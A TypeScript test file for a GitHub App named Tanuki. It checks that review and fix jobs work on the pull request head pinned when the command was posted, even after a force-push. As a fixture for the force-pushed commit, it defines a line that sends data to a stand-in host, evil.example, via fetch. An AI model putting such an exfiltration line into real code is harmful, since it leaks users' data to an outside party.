import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type AppFixture, bodyText, startAppFixture } from "../helpers/app-fixture.js";
import { type BareRemote, git } from "../helpers/app-git.js";
import type { GitHubMock } from "../helpers/app-github-mock.js";
import type { AppHarness } from "../helpers/app-harness.js";
import { configPath, repoPath } from "../helpers/app-intake-mocks.js";
import { issueCommentCreated } from "../helpers/app-payloads.js";
import { commitOnBranch, runResult } from "../helpers/app-scripted-runner.js";

const GOOD = "export const first = (xs) => xs[0]?.name;\n";
const EVIL = "export const first = (xs) => fetch('https://evil.example/' + xs);\n";

/**
 * A pull request's head force-pushed after `/tanuki review` (or `fix`) was posted: the job works on the head the
 * commenter saw, pinned when the delivery was handled, and its status comment says that the branch has moved
 * since. Real signed deliveries through the App's real server and Probot middleware, a real bare git remote that
 * really is force-pushed; GitHub's API mocked, its pull request answer read from that remote at each request.
 */
describe("a pull request's head that moves after the command", () => {
  let fixture: AppFixture;
  let remote: BareRemote;
  let github: GitHubMock;
  let h: AppHarness;
  let baseSha: string;
  let pinned: string;

  beforeEach(async () => {
    fixture = await startAppFixture({ "src/list.js": "export const first = (xs) => xs[0].name;\n" });
    ({ remote, github, h, baseSha } = fixture);
    // Like GitHub, the remote serves a commit it still holds by SHA, even once no branch points at it.
    git(remote.url, "config", "uploadpack.allowAnySHA1InWant", "true");
    pinned = remote.commit({ "src/list.js": GOOD }, "guard", "feature");
  });
  afterEach(() => fixture.close());

  /** `git push --force` of a commit on `base` holding `files` to `branch`, from a clone of its own. */
  function forcePush(branch: string, files: Record<string, string>): string {
    const root = mkdtempSync(join(tmpdir(), "tanuki-pusher-"));
    try {
      git(root, "clone", "--quiet", remote.url, "w");
      const work = join(root, "w");
      git(work, "checkout", "--quiet", "-b", "rewrite", baseSha);
      for (const [path, content] of Object.entries(files)) writeFileSync(join(work, path), content);
      git(work, "-c", "user.name=M", "-c", "user.email=m@example.com", "commit", "--quiet", "-am", "rewrite");
      git(work, "push", "--quiet", "--force", "origin", `HEAD:refs/heads/${branch}`);
      return git(work, "rev-parse", "HEAD");
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  }

  /** GET /pulls/7 answered from the remote as it is at that moment (`times` requests, `status` the last ones). */
  function mockPullRequest(headRef: string, answers: number[] = [200, 200]) {
    for (const status of answers) {
      github.on("GET", repoPath("/pulls/7"), status, () =>
        status !== 200
          ? { message: "Server Error" }
          : {
              number: 7,
              title: "Guard the empty list",
              body: "Adds a guard.",
              draft: false,
              state: "open",
              head: { sha: remote.branchSha(headRef), ref: headRef, repo: { full_name: "acme/widgets" } },
              base: { sha: baseSha, ref: "main" },
              user: { login: "bob" },
              html_url: "https://github.com/acme/widgets/pull/7",
            },
      );
    }
  }

  /** Intake of a command on pull request 7; `afterQueued` runs when the status comment is created. */
  function mockCommandIntake(afterQueued: () => void = () => undefined) {
    github
      .token()
      .on("POST", repoPath("/issues/comments/1001/reactions"), 201, { id: 1, content: "eyes" })
      .on("GET", repoPath("/collaborators/alice/permission"), 200, { permission: "write", role_name: "write" })
      .on("GET", configPath(baseSha), 404, { message: "Not Found" })
      .on("POST", repoPath("/check-runs"), 201, { id: 9001, html_url: "https://github.com/acme/widgets/runs/9001" })
      .on("PATCH", repoPath("/check-runs/9001"), 200, { id: 9001 })
      .on("POST", repoPath("/issues/7/comments"), 201, () => {
        afterQueued();
        return { id: 5001, html_url: "https://github.com/acme/widgets/pull/7#issuecomment-5001" };
      })
      .on("PATCH", repoPath("/issues/comments/5001"), 200, { id: 5001 });
  }

  const statusComment = () => bodyText(github.find("PATCH", repoPath("/issues/comments/5001")).at(-1));

  it("reviews the pinned head although the branch was force-pushed before the checkout, and says so", async () => {
    let moved = "";
    mockPullRequest("feature");
    mockCommandIntake(() => {
      moved = forcePush("feature", { "src/list.js": EVIL });
    });
    github.on("POST", repoPath("/pulls/7/reviews"), 200, { id: 1, html_url: "https://github.com/acme/widgets/pull/7" });
    let checkedOut = "";
    let fileSeen = "";
    h.runner.script.review = (input) => {
      checkedOut = git(input.repoDir, "rev-parse", "HEAD");
      fileSeen = readFileSync(join(input.repoDir, "src/list.js"), "utf8");
      return { summary: "Looks fine.", findings: [] };
    };

    await h.deliver("issue_comment", issueCommentCreated({ body: "/tanuki review", pullRequest: true }));
    await h.app.idle();
    github.assertDone();

    expect(remote.branchSha("feature")).toBe(moved);
    expect(moved).not.toBe(pinned);
    const [review] = h.runner.calls.review;
    expect(review?.headSha).toBe(pinned);
    expect(checkedOut).toBe(pinned);
    expect(fileSeen).toBe(GOOD);
    expect(review?.diff).toContain("xs[0]?.name");
    expect(review?.diff).not.toContain("evil.example");
    const posted = github.find("POST", repoPath("/pulls/7/reviews"))[0]?.body as { commit_id?: string } | undefined;
    expect(posted?.commit_id).toBe(pinned);
    expect(statusComment()).toContain(
      `Reviewed \`${pinned.slice(0, 7)}\` (the head when the command was posted); the branch has moved to ` +
        `\`${moved.slice(0, 7)}\` since: comment \`/tanuki review\` again to review the new head.`,
    );
    const check = github.find("PATCH", repoPath("/check-runs/9001")).at(-1)?.body as { output: { summary: string } };
    expect(check.output.summary).toContain(`moved to \`${moved.slice(0, 7)}\``);
  });

  it("adds no note when the head has not moved", async () => {
    mockPullRequest("feature");
    mockCommandIntake();
    github.on("POST", repoPath("/pulls/7/reviews"), 200, { id: 1, html_url: "https://github.com/acme/widgets/pull/7" });
    h.runner.script.review = () => ({ summary: "Looks fine.", findings: [] });

    await h.deliver("issue_comment", issueCommentCreated({ body: "/tanuki review", pullRequest: true }));
    await h.app.idle();
    github.assertDone();

    expect(github.find("GET", repoPath("/pulls/7"))).toHaveLength(2);
    expect(statusComment()).toContain("✅ done");
    expect(statusComment()).not.toContain("moved");
  });

  it("finishes the job without the note when the head cannot be read at the end", async () => {
    mockPullRequest("feature", [200, 404]);
    mockCommandIntake(() => forcePush("feature", { "src/list.js": EVIL }));
    github.on("POST", repoPath("/pulls/7/reviews"), 200, { id: 1, html_url: "https://github.com/acme/widgets/pull/7" });
    h.runner.script.review = () => ({ summary: "Looks fine.", findings: [] });

    await h.deliver("issue_comment", issueCommentCreated({ body: "/tanuki review", pullRequest: true }));
    await h.app.idle();
    github.assertDone();

    expect(h.runner.calls.review[0]?.headSha).toBe(pinned);
    expect(statusComment()).toContain("✅ done");
    expect(statusComment()).not.toContain("moved");
  });

  it("does not count Tanuki's own push onto its branch as a move", async () => {
    const own = "tanuki/fix-3";
    const ownHead = remote.commit({ "src/list.js": GOOD.replace("?.", ".") }, "first try", own);
    mockPullRequest(own);
    mockCommandIntake();
    github.on("GET", repoPath(`/commits/${ownHead}/check-runs?filter=latest&per_page=100`), 200, {
      total_count: 0,
      check_runs: [],
    });
    h.runner.script.fix = (input) => {
      const headSha = commitOnBranch(input.repoDir, input.task.baseSha as string, input.task.branchName as string, {
        "src/list.js": GOOD,
      });
      return runResult({ outcome: "fixed", baseSha: ownHead, branch: input.task.branchName, headSha });
    };

    await h.deliver("issue_comment", issueCommentCreated({ body: "/tanuki fix", pullRequest: true }));
    await h.app.idle();
    github.assertDone();

    expect(h.runner.calls.fix[0]?.task.baseSha).toBe(ownHead);
    expect(remote.branchSha(own)).not.toBe(ownHead);
    expect(statusComment()).toContain(`Pushed ${remote.branchSha(own)?.slice(0, 7)} to \`${own}\``);
    expect(statusComment()).not.toContain("moved");
  });

  it("fixes from the pinned head on another branch and says when that branch was force-pushed since", async () => {
    let moved = "";
    mockPullRequest("feature");
    mockCommandIntake(() => {
      moved = forcePush("feature", { "src/list.js": EVIL });
    });
    github
      .on("GET", repoPath(`/commits/${pinned}/check-runs?filter=latest&per_page=100`), 200, {
        total_count: 0,
        check_runs: [],
      })
      .on("POST", repoPath("/pulls"), 201, { number: 13, html_url: "https://github.com/acme/widgets/pull/13" })
      .on("POST", repoPath("/pulls/13/requested_reviewers"), 201, {});
    let fileSeen = "";
    h.runner.script.fix = (input) => {
      fileSeen = readFileSync(join(input.repoDir, "src/list.js"), "utf8");
      const headSha = commitOnBranch(input.repoDir, input.task.baseSha as string, input.task.branchName as string, {
        "src/list.js": `${GOOD}// reviewed\n`,
      });
      return runResult({
        outcome: "fixed",
        baseSha: input.task.baseSha as string,
        branch: input.task.branchName,
        headSha,
        pullRequest: { title: "Follow-up", body: "Follow-up.", draft: false },
      });
    };

    await h.deliver("issue_comment", issueCommentCreated({ body: "/tanuki fix", pullRequest: true }));
    await h.app.idle();
    github.assertDone();

    expect(h.runner.calls.fix[0]?.task.baseSha).toBe(pinned);
    expect(fileSeen).toBe(GOOD);
    expect(github.find("POST", repoPath("/pulls"))[0]?.body).toMatchObject({ base: "feature" });
    expect(statusComment()).toContain(
      `Worked on \`${pinned.slice(0, 7)}\` (the head when the command was posted); the branch has moved to ` +
        `\`${moved.slice(0, 7)}\` since: comment \`/tanuki fix\` again to work on the new head.`,
    );
  });
});
